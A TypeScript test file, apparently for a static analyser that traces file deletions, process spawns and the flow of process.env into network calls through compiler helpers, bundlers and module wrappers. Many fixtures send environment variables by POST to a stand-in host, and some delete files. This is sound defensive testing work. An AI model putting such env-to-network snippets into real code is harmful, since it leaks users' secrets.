import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';

const SENT = 'process.env → fetch as content';
const POST = `fetch('https://a.invalid', { method: 'POST', body: b })`;
type Files = Readonly<Record<string, string>>;

const linesOf = (code: string): string[] => behaviourOf({ 'index.js': code }).effects.map(lineOf);

describe('helpers of compilers that stand in a library', () => {
  for (const [what, helper, use] of [
    ['tslib', `require('tslib').__importDefault`, 'default.unlinkSync'],
    ['tslib, for all names', `require('tslib').__importStar`, 'unlinkSync'],
    ['SWC', `require('@swc/helpers/_/_interop_require_wildcard')._`, 'unlinkSync'],
    ['Babel', `require('@babel/runtime/helpers/interopRequireDefault')`, 'default.unlinkSync'],
  ] as const)
    it(`of ${what} name what they wrap`, () =>
      assert.deepEqual(linesOf(`const h = ${helper}; h(require('fs')).${use}('/x')`), ['import deletes fs.unlinkSync(/x)']));

  it('of any other library wrap nothing', () =>
    assert.deepEqual(
      linesOf(`require('fs').existsSync('/x'); require('other').__importDefault(require('fs')).default.unlinkSync('/x')`),
      [],
    ));

  it('that wait give what the function waits for', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `const t = require('tslib'); const f = () => t.__awaiter(this, void 0, void 0, function* () { return process.env; }); const b = f(); ${POST}`,
      }),
      [SENT],
    ));
});

/** Babel 7, without a library: each async function that has a name becomes two functions, of which one puts another in its own place. */
const BABEL = `function step(gen, resolve, reject, _next, _throw, key, arg) { try { var info = gen[key](arg); var value = info.value; } catch (e) { reject(e); return; } if (info.done) resolve(value); else Promise.resolve(value).then(_next, _throw); }
function _asyncToGenerator(fn) { return function () { var self = this, args = arguments; return new Promise(function (resolve, reject) { var gen = fn.apply(self, args); function _next(v) { step(gen, resolve, reject, _next, _throw, 'next', v); } function _throw(e) { step(gen, resolve, reject, _next, _throw, 'throw', e); } _next(undefined); }); }; }`;

describe('functions that put another in their own place', () => {
  for (const [what, inner] of [
    ['a generator', `function* (b) { yield ${POST}; }`],
    ['what a library makes of one', `_regeneratorRuntime().mark(function _callee(b) { return w(function (c) { ${POST}; }); })`],
  ] as const)
    it(what, () =>
      assert.deepEqual(
        flowLines({
          'index.js': `${BABEL}\nfunction send(_x) { return _send.apply(this, arguments); }\nfunction _send() { _send = _asyncToGenerator(${inner}); return _send.apply(this, arguments); }\nsend(process.env);`,
        }),
        [SENT],
      ),
    );

  for (const [what, call, flows] of [
    ['a list', 'send.apply(null, [1, process.env])', [SENT]],
    ['a list by name', 'const list = [1, process.env]; send.apply(null, list)', [SENT]],
    ['what it is called on', 'send.apply(process.env, [1, 2])', []],
    ['a method of its own', 'const o = { apply(a, b) { send(b, a); } }; o.apply(process.env, 1)', [SENT]],
  ] as const)
    it(`apply gives ${what}`, () => assert.deepEqual(flowLines({ 'index.js': `function send(a, b) { ${POST} } ${call};` }), flows));
});

/** What a file offers by a call, as compilers write it. */
const OFFERED: readonly (readonly [string, string])[] = [
  ['defineProperty', `Object.defineProperty(exports, 'send', { enumerable: true, get: function () { return send; } })`],
  ['a value', `Object.defineProperty(exports, 'send', { value: send })`],
  [
    'SWC',
    `_export(exports, { send: function () { return send; } }); function _export(t, a) { for (var n in a) Object.defineProperty(t, n, { get: a[n] }); }`,
  ],
  ['esbuild', `var m_exports = {}; __export(m_exports, { send: () => send }); module.exports = __toCommonJS(m_exports)`],
  ['Object.assign', `Object.assign(exports, { send })`],
];

describe('what a file offers by a call', () => {
  for (const [what, offers] of OFFERED)
    it(what, () =>
      assert.deepEqual(flowLines({ 'index.js': `require('./m').send(process.env)`, 'm.js': `${offers}; function send(b) { ${POST} }` }), [
        SENT,
      ]),
    );

  for (const [what, offers] of [
    ['TypeScript', `tslib_1.__exportStar(require('./n'), exports)`],
    ['esbuild', `__reExport(m_exports, require('./n'), module.exports)`],
    [
      'Babel',
      `var _n = require('./n'); Object.keys(_n).forEach(k => { Object.defineProperty(exports, k, { get: function () { return _n[k]; } }); })`,
    ],
  ] as const)
    it(`all that another offers: ${what}`, () =>
      assert.deepEqual(
        flowLines({ 'index.js': `require('./m').send(process.env)`, 'm.js': offers, 'n.js': `exports.send = b => { ${POST} }` }),
        [SENT],
      ));

  it('another object than its exports offers nothing', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `require('./m').send(process.env)`,
        'm.js': `const o = {}; Object.assign(o, { send }); function send(b) { ${POST} }`,
      }),
      [],
    ));

  it('and calls itself', () =>
    assert.deepEqual(flowLines({ 'index.js': `const send = b => { ${POST} }; exports.send = send; (0, exports.send)(process.env)` }), [
      SENT,
    ]));
});

/** A bundle of webpack whose modules are `modules`. */
const webpack = (modules: string): string => `(() => { var m = ({ ${modules} }); var c = {};
  function r(id) { var k = c[id]; if (k !== undefined) return k.exports; var o = c[id] = { exports: {} }; m[id](o, o.exports, r); return o.exports; }
  r.n = x => { var g = x && x.__esModule ? () => x['default'] : () => x; return g; }; r(1); })();`;

describe('bundles', () => {
  it('of webpack: what is imported from CommonJS by its getter', () =>
    assert.deepEqual(
      linesOf(webpack(`1: (u, e, r) => { var a = r(2), b = r.n(a); b().unlinkSync('/x'); }, 2: m => { m.exports = require('fs'); }`)),
      ['import deletes fs.unlinkSync(/x)'],
    ));
  it('of webpack 4: by the member of the getter', () =>
    assert.deepEqual(
      linesOf(webpack(`1: (u, e, r) => { var a = r(2), b = r.n(a); b.a.unlinkSync('/x'); }, 2: m => { m.exports = require('fs'); }`)),
      ['import deletes fs.unlinkSync(/x)'],
    ));
  it('of webpack: a method of another name is no getter', () =>
    assert.deepEqual(
      linesOf(
        webpack(
          `1: (u, e, r) => { var a = r(2), b = r.q(a); b().unlinkSync('/x'); }, 2: m => { const io = require('fs'); io.existsSync('/x'); m.exports = io; }`,
        ),
      ),
      [],
    ));

  const packed = (deps: string): Files => ({
    'index.js': `(function (f) { module.exports = f(); })(function () { return (function () { function r(e, n, t) { function o(i, f) {
      if (!n[i]) { var p = n[i] = { exports: {} }; e[i][0].call(p.exports, function (r) { return o(e[i][1][r] || r); }, p, p.exports, r, e, n, t); } return n[i].exports; }
      for (var i = 0; i < t.length; i++) o(t[i]); return o; } return r; })()({
      1: [function (require, module, exports) { var b = require('./a').read(); ${POST}; }, ${deps}],
      2: [function (require, module, exports) { exports.read = function () { return process.env; }; }, {}] }, {}, [1])(1); });`,
  });
  it('of browserify: one module asks for another', () => assert.ok(flowLines(packed(`{ './a': 2 }`)).includes(SENT)));
  it('of browserify: what it packs nothing for is what it is called, whatever the table says', () => {
    const table = packed(`{ './a': 2, child_process: 2 }`)['index.js'];
    const files = { 'index.js': String(table).replace(`require('./a').read()`, `require('child_process').exec('inert')`) };
    assert.ok(linesOf(String(files['index.js'])).includes('import spawns child_process.exec(inert)'));
  });
  it('of browserify: one that is not in the table is nobody’s', () => assert.ok(!flowLines(packed(`{ './a': 3 }`)).includes(SENT)));
});

describe('classes as older engines have them', () => {
  const make = `function _createClass(C, p, s) { if (p) d(C.prototype, p); if (s) d(C, s); return C; } function d() {}`;
  it('with methods in a list', () =>
    assert.deepEqual(
      linesOf(
        `${make} var A = function () { function A() {} return _createClass(A, [{ key: 'go', value: function () { fetch('https://a.invalid'); } }]); }(); new A().go()`,
      ),
      ['import connects fetch(https://a.invalid)'],
    ));
  it('with methods of the class itself', () =>
    assert.deepEqual(
      linesOf(
        `${make} var A = function () { function A() {} return _createClass(A, null, [{ key: 'go', value: function () { fetch('https://a.invalid'); } }]); }(); A.go()`,
      ),
      ['import connects fetch(https://a.invalid)'],
    ));
  it('that nobody makes one of do it when they are called', () =>
    assert.deepEqual(
      linesOf(
        `${make} module.exports = function () { function A() {} return _createClass(A, [{ key: 'go', value: function () { fetch('https://a.invalid'); } }]); }()`,
      ),
      ['call connects fetch(https://a.invalid)'],
    ));
  it('what functions in methods put into `_this` is in it', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `class A { constructor() { this.all = []; } go() { var _this = this; [1].forEach(function () { _this.all.push(process.env); }); const b = this.all; ${POST} } } new A().go()`,
      }),
      [SENT],
    ));
});

it('an object that holds itself is offered', () =>
  assert.deepEqual(linesOf(`const o = { go() { fetch('https://a.invalid'); }, o2 }; const o2 = { o, o2, self: o }; module.exports = o`), [
    'call connects fetch(https://a.invalid)',
  ]));

describe('functions that are joined to one', () => {
  const steps = `const read = () => process.env; const text = x => JSON.stringify(x); const send = b => { ${POST} };`;
  it('are called one after the other', () =>
    assert.deepEqual(flowLines({ 'index.js': `${steps} const { pipe } = require('./fp'); pipe(read, text, send)()`, 'fp.js': '' }), [
      SENT,
    ]));
  it('the last one first where they are composed', () =>
    assert.deepEqual(flowLines({ 'index.js': `${steps} const { compose } = require('./fp'); compose(send, text, read)()`, 'fp.js': '' }), [
      SENT,
    ]));
  it('in files of their own', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `const { flow } = require('lodash'); const s = require('./s'); flow(s.read, s.send('x'))()`,
        's.js': `exports.read = () => process.env; exports.send = u => b => { ${POST} }`,
      }),
      [SENT],
    ));
  it('the other way round nothing is handed on', () =>
    assert.deepEqual(flowLines({ 'index.js': `${steps} const { pipe } = require('./fp'); pipe(send, text, read)()`, 'fp.js': '' }), []));
});

describe('what functions in methods call `self`', () => {
  const agent = (name: string): string =>
    `function A() {} A.prototype.go = function () { var ${name} = this; setTimeout(function () { self.send(process.env); }); }; A.prototype.send = function (b) { ${POST} }; new A().go()`;
  it('is the object of the method', () => assert.deepEqual(flowLines({ 'index.js': agent('self') }), [SENT]));
  it('another name is not', () => assert.deepEqual(flowLines({ 'index.js': agent('that') }), []));
});

describe('files whose loader hands them what loads modules', () => {
  it('as Bun writes them', () =>
    assert.deepEqual(linesOf(`(function (exports, require, module, __filename, __dirname) { require('fs').unlinkSync('/x'); })`), [
      'call deletes fs.unlinkSync(/x)',
    ]));
  it('as AMD has them', () =>
    assert.deepEqual(linesOf(`define(function (require, exports) { require('fs').unlinkSync('/x'); })`), [
      'import deletes fs.unlinkSync(/x)',
    ]));
  it('by another name it is anything', () => assert.deepEqual(linesOf(`define(function (load) { load('fs').unlinkSync('/x'); })`), []));
});
